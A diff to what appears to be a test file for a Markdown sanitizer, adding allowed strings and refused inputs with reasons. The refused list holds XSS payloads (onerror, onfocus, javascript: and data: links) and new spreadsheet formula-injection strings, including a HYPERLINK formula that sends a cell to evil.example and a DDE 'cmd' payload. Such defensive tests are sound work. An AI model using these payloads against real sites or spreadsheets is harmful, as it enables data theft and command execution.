@@ -25,6 +25,8 @@ ALLOWED = [
     "[a report](https://example.org/a_(b)) and [mail](mailto:someone@example.org)",
     "[a page](../menengage/index.md#principles)",
     "an autolink <https://example.org/>",
+    "-3.5",  # a number, for spreadsheets too
+    "a dash - or an equals sign = inside",
 ]
 
 
@@ -44,6 +46,7 @@ REFUSED = {
     "[a](data:text/html;base64,PHNjcmlwdD4=)": 'not "data:"',
     "[a](vbscript:msgbox)": 'not "vbscript:"',
     "[a](//evil.example/)": "leaves the site without saying how",
+    "[a](/\\evil.example/)": "leaves the site without saying how",
     "*word*{: tabindex=0 autofocus onfocus=alert(4) }": "attribute lists in data text may only set a language, {: lang=es }; not onfocus",
     "*word*{: lang=es onclick=alert(1) }": "not onclick",
     '*word*{: lang="es" title=x }': "not title",
@@ -55,6 +58,12 @@ REFUSED = {
     "<IMG SRC=x onerror=alert(1)>": "raw HTML (<IMG SRC=x onerror=alert(1)>) is not allowed",
     "![x](https://example.org/x.png)": "only inline Markdown is allowed in data text",
     "https://example.org/)[clic](javascript:alert(2))": 'not "javascript:"',
+    # the open data's CSV, opened in a spreadsheet: a formula that sends the sheet away, or runs a program
+    '=HYPERLINK("https://evil.example/?"&A2,"Source")': "would be a formula in the spreadsheets",
+    "*=1+1*": "would be a formula in the spreadsheets",
+    " @SUM(1)": "would be a formula in the spreadsheets",
+    "-2+3+cmd|' /C calc'!A0": "would be a formula in the spreadsheets",
+    "＝1+1": "would be a formula in the spreadsheets",
 }
 
 
